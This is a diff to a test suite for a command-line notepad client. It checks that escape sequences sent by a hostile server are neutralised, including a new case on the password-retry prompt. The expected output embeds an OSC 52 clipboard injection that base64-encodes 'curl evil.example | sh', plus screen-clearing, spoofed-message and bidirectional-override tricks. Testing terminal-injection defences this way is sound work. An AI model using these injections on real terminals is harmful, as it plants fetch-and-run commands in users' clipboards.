@@ -5,7 +5,7 @@
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { startServer, type TestServer } from "../browser/server";
 import { build, cliEnv, runCli } from "./helpers";
-import { fakeServer, type FakeServer } from "./fake-server";
+import { fakeServer, padRoutes, sealPad, type FakeServer } from "./fake-server";
 import { onPty } from "./pty";
 
 const ESC = "\x1b";
@@ -104,6 +104,20 @@ describe("what a hostile server says", () => {
     expect(result.stderr).toBe(
       "hushnote: the server refused (500): \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2JNot found.\\x0ahushnote: wrong password; 0 tries left\\x0d\\u202eevil\n",
     );
+  });
+
+  it("is neutralised when a notepad's wrong-password sentence is said before asking again", async () => {
+    const pad = await sealPad("retype", "text", "pad password", { format: 2 });
+    const pads = padRoutes(new Map([["retype", pad]]));
+    fake = await fakeServer((req) => (req.method === "POST" ? { status: 403, body: { status: 403, error: SENTENCE } } : pads(req)));
+    const session = onPty(["pad", "get", "retype"], { ...cliEnv(fake.origin), TERM: "xterm-256color" });
+    await session.waitFor("Password for retype:");
+    session.type("pad password");
+    await session.waitFor("Password for retype:", 2);
+    session.child.kill();
+    await session.exited;
+    expectNoRawSequences(session.output());
+    expect(session.output()).toContain("\\x1b]52;c;");
   });
 
   it("is neutralised on a terminal, in receipts too", async () => {
